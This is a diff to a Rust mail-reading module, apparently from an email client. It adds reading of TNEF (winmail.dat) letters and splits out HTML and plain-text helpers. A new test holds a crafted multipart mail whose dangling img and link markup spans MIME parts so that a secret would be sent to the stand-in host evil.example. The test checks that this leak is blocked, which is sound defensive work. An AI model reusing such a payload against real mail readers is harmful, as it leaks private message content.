@@ -7,8 +7,10 @@ use super::field::{Fields, REFERENCES, message_ids};
 use super::people::{self, PEOPLE};
 use super::structure::{self, Part, Structure};
 use super::text::{self, Flow};
+use super::tnef::{self, Letter};
 use super::view::{Content, TextOrigin};
 use crate::html;
+use crate::model::PartId;
 use crate::model::text::{Paragraph, ParagraphKind, Span, printable};
 
 /// Octets of one text part that are shown; a longer one is offered whole as an attachment.
@@ -40,11 +42,37 @@ pub(super) fn read(mail: &[u8]) -> Content {
             chips.add(index, part, &structure);
         }
     }
+    if content.paragraphs.is_empty() {
+        read_text_of_letter(&chips.text_of_letter, &mut content);
+    }
     if content.too_complex {
         chips.add_whole_mail(mail);
     }
     content.attachments = chips.views;
     content
+}
+
+/// A letter by itself (winmail.dat); its attachments are numbered from 0.
+pub(super) fn of_letter(letter: &Letter<'_>) -> Content {
+    let mut content = Content {
+        subject: printable::one_line(&letter.subject),
+        ..Content::default()
+    };
+    read_text_of_letter(&letter.text, &mut content);
+    let mut chips = Chips::default();
+    content.too_complex = !chips.add_letter(letter, |place| {
+        PartId(u32::try_from(place).unwrap_or(u32::MAX - 1))
+    });
+    content.attachments = chips.views;
+    content
+}
+
+fn read_text_of_letter(text: &tnef::Text, content: &mut Content) {
+    match text {
+        tnef::Text::Nothing => {}
+        tnef::Text::Plain(text) => read_plain(text, Flow::default(), content),
+        tnef::Text::Html(html) => read_html(html, content),
+    }
 }
 
 /// A mail over a limit (A-23): its beginning as it stands, and the whole as a file.
@@ -146,27 +174,35 @@ impl<'s, 'm> Texts<'s, 'm> {
         for part in &self.chosen {
             content.too_complex |= part.body.len() > TEXT_OCTETS;
             let text = part.text(TEXT_OCTETS);
-            let room = PARAGRAPHS.saturating_sub(content.paragraphs.len());
             if part.is_html() {
-                let limits = html::Limits {
-                    text_octets: TEXT_OCTETS,
-                    paragraphs: room,
-                };
-                let reading = html::read(&text, &limits);
-                content.paragraphs.extend(reading.paragraphs);
-                content.remote_contents += reading.remote_contents;
-                content.too_complex |= reading.cut;
-                content.origin = TextOrigin::Html;
+                read_html(&text, content);
             } else {
-                let mut paragraphs = text::paragraphs(&text, flow_of(part));
-                content.too_complex |= paragraphs.len() > room;
-                paragraphs.truncate(room);
-                content.paragraphs.extend(paragraphs);
-                if content.origin == TextOrigin::Nothing {
-                    content.origin = TextOrigin::Plain;
-                }
+                read_plain(&text, flow_of(part), content);
             }
         }
+    }
+}
+
+fn read_html(text: &str, content: &mut Content) {
+    let limits = html::Limits {
+        text_octets: TEXT_OCTETS,
+        paragraphs: PARAGRAPHS.saturating_sub(content.paragraphs.len()),
+    };
+    let reading = html::read(text, &limits);
+    content.paragraphs.extend(reading.paragraphs);
+    content.remote_contents += reading.remote_contents;
+    content.too_complex |= reading.cut;
+    content.origin = TextOrigin::Html;
+}
+
+fn read_plain(text: &str, flow: Flow, content: &mut Content) {
+    let room = PARAGRAPHS.saturating_sub(content.paragraphs.len());
+    let mut paragraphs = text::paragraphs(text, flow);
+    content.too_complex |= paragraphs.len() > room;
+    paragraphs.truncate(room);
+    content.paragraphs.extend(paragraphs);
+    if content.origin == TextOrigin::Nothing {
+        content.origin = TextOrigin::Plain;
     }
 }
 
@@ -216,5 +252,45 @@ fn flow_of(part: &Part<'_>) -> Flow {
     Flow {
         flowed: says("format", b"flowed"),
         delete_space: says("delsp", b"yes"),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::model::text::SpanStyle;
+
+    #[test]
+    fn a19_parts_are_read_each_by_itself() {
+        // Stitched so that the middle would be sent away as a part of an address.
+        let mail = b"Content-Type: multipart/mixed; boundary=b\r\n\r\n\
+            --b\r\nContent-Type: text/html\r\n\r\n<p>before<img src=\"https://evil.example/\r\n\
+            --b\r\n\r\nthe secret\r\n\
+            --b\r\nContent-Type: text/html\r\n\r\n\">after<a href='https://evil.example/\r\n\
+            --b\r\nContent-Type: text/html\r\n\r\n<i>the end</i>'>x</a>\r\n--b--\r\n";
+        let content = read(mail);
+        let texts: Vec<String> = content
+            .paragraphs
+            .iter()
+            .map(|paragraph| {
+                paragraph
+                    .spans
+                    .iter()
+                    .map(|span| span.text.as_str())
+                    .collect()
+            })
+            .collect();
+        assert!(texts.contains(&"the secret".to_owned()), "{texts:?}");
+        assert!(
+            texts.iter().any(|text| text.contains("the end")),
+            "{texts:?}"
+        );
+        for span in content
+            .paragraphs
+            .iter()
+            .flat_map(|paragraph| &paragraph.spans)
+        {
+            assert!(!matches!(span.style, SpanStyle::Link(_)), "{span:?}");
+        }
     }
 }
